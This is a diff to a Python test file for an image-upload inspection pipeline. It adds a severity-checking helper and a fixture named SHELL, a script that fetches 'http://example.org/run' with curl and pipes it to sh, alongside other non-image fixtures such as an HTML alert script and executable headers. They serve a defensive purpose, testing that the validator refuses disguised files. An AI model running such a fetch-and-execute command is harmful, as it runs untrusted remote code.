@@ -13,6 +13,7 @@ import numpy as np
 import tifffile
 from PIL import Image
 
+from nachet_pipeline.contract.catalogue import CATALOGUE, Severity
 from nachet_pipeline.pictures.inspection import Inspected, Thumbnail, inspect_picture
 from nachet_pipeline.pictures.issues import Issue
 from nachet_pipeline.pictures.limits import PictureLimits
@@ -23,6 +24,7 @@ HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
 WINDOWS_PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)
 ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
 PDF = b"%PDF-1.7\n1 0 obj\n"
+SHELL = b"#!/bin/sh\ncurl -s http://example.org/run | sh\n"
 
 
 def zip_archive(size: int = 200) -> bytes:
@@ -231,6 +233,12 @@ def only(picture_format: str, content: bytes, limits: PictureLimits = LIMITS) ->
     """The one issue that there is."""
     (issue,) = inspect(picture_format, content, limits).issues
     return issue
+
+
+def is_refused(picture_format: str, content: bytes) -> bool:
+    """Whether the catalogue calls one of the issues an error."""
+    issues = inspect_picture(content, picture_format, LIMITS).issues
+    return any(CATALOGUE[issue.code].severity is Severity.ERROR for issue in issues)
 
 
 def changed_bits(content: bytes, start: int, end: int, times: int) -> Iterator[bytes]:
